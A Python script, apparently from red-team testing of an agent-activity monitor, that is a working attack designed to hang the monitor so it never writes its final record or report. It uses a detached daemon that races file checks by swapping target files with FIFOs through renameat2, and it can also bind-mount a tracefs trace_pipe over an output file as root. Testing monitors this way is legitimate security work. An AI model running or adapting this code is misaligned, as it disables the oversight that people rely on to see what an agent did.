#!/usr/bin/env python3
"""Hang the end of the capture: the monitor hashes (sha256) every file the agent wrote, at the
end, after a symlink_metadata check and then a plain open (no O_NONBLOCK) and a read to EOF.

    fifo_swap.py race [N]      # writes N sparse 4 MiB pads and N small targets (default 100),
                               # interleaved; a leftover daemon swaps each target with a FIFO
                               # (renameat2 RENAME_EXCHANGE) while the monitor hashes the pad
                               # before it, until the monitor is stuck (or 120 s)
    fifo_swap.py blocking      # writes out.txt, then bind-mounts a tracefs instance's
                               # trace_pipe over it: a regular file, size 0, whose read waits
                               # for trace data that never comes (root; no race at all)

Both run in $ATTACK_HOME. The monitor's open of a FIFO waits for a writer; its read of
trace_pipe waits for data: either way no `end` record, no report, and `run` never returns.
Clean up with `umount $ATTACK_HOME/out.txt` and by killing the monitor.
"""
import os
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import swlog  # noqa: E402


def stuck_in_open_or_read(monitor):
    """Whether a thread of the monitor waits in a FIFO open or a read (wchan)."""
    try:
        tasks = os.listdir(f"/proc/{monitor}/task")
    except OSError:
        return None
    for t in tasks:
        try:
            with open(f"/proc/{monitor}/task/{t}/wchan") as f:
                w = f.read()
        except OSError:
            continue
        if w in ("fifo_open", "wait_for_partner", "pipe_wait", "pipe_read", "ring_buffer_wait",
                 "wait_on_pipe", "tracing_wait_pipe"):
            return f"thread {t} in {w}"
    return None


IN_OPEN = 0x20


def inotify():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")

    def watch(path):
        wd = libc.inotify_add_watch(fd, path.encode(), IN_OPEN)
        if wd < 0:
            raise OSError(ctypes.get_errno(), f"inotify_add_watch {path}")
        return wd

    return fd, watch


def opened(fd, timeout):
    """The watch descriptors opened since the last call (waits up to `timeout` s)."""
    import select
    import struct

    r, _, _ = select.select([fd], [], [], timeout)
    if not r:
        return []
    buf = os.read(fd, 4096)
    wds = []
    i = 0
    while i + 16 <= len(buf):
        wd, _mask, _cookie, length = struct.unpack_from("iIII", buf, i)
        wds.append(wd)
        i += 16 + length
    return wds


def race(home, n):
    """Files are hashed in the order they were first written: pad0, T0, pad1, T1, ... Each pad
    is a sparse 4 MiB file, so hashing it takes a while; while the monitor hashes pad k, the
    daemon flips T k between its regular file and a FIFO as fast as it can, so that the
    monitor's check (symlink_metadata: a regular file) and its open (a FIFO) disagree."""
    pads = [os.path.join(home, f"pad{i}.bin") for i in range(n)]
    targets = [os.path.join(home, f"t{i}.txt") for i in range(n)]
    for pad, t in zip(pads, targets):
        with open(pad, "w") as f:
            f.truncate(4 << 20)
        with open(t, "w") as f:
            f.write("written by the agent\n")
    monitor = swlog.monitor_pid()
    swlog.say(f"wrote {n} pads and {n} targets; leaving the swapping daemon")
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    log = open(os.path.join(home, "swap.out"), "a")
    for t in targets:
        os.mkfifo(t + ".fifo")
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    AT_FDCWD, RENAME_EXCHANGE = -100, 2
    names = {t: (t.encode(), (t + ".fifo").encode()) for t in targets}

    def exchange(t):
        a, b = names[t]
        libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)

    fd, watch = inotify()
    wds = {watch(p): k for k, p in enumerate(pads)}
    deadline = time.time() + 120
    current = None
    flips = 0
    while time.time() < deadline:
        events = opened(fd, 0 if current is not None else 1.0)
        for wd in events:
            if wd in wds:
                current = wds[wd]
        if current is None:
            if not os.path.exists(f"/proc/{monitor}"):
                break
            continue
        t = targets[current]
        # Each exchange swaps the names atomically: t is the file, then the FIFO, then the file...
        for _ in range(50):
            exchange(t)
        flips += 50
        where = stuck_in_open_or_read(monitor)
        if where:
            # An even number of exchanges left the file at t: put the FIFO back, so that an
            # open restarted after a signal (SA_RESTART) finds the FIFO again.
            exchange(t)
            print(f"monitor stuck on {t}: {where} after {flips} flips", file=log, flush=True)
            os._exit(0)
        if not os.path.exists(f"/proc/{monitor}"):
            break
    print(f"no hang: gave up after {flips} flips (last target {current})", file=log, flush=True)
    os._exit(0)


def blocking(home):
    out = os.path.join(home, "out.txt")
    with open(out, "w") as f:
        f.write("written by the agent\n")
    inst = "/sys/kernel/tracing/instances/sw-attack"
    os.makedirs(inst, exist_ok=True)
    subprocess.run(["mount", "--bind", f"{inst}/trace_pipe", out], check=True)
    st = os.lstat(out)
    swlog.say(f"bind-mounted {inst}/trace_pipe over {out} (mode {st.st_mode:o}, size {st.st_size})")


def main():
    mode = sys.argv[1] if len(sys.argv) > 1 else "race"
    home = os.environ["ATTACK_HOME"]
    if mode == "race":
        race(home, int(sys.argv[2]) if len(sys.argv) > 2 else 100)
    elif mode == "blocking":
        blocking(home)
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
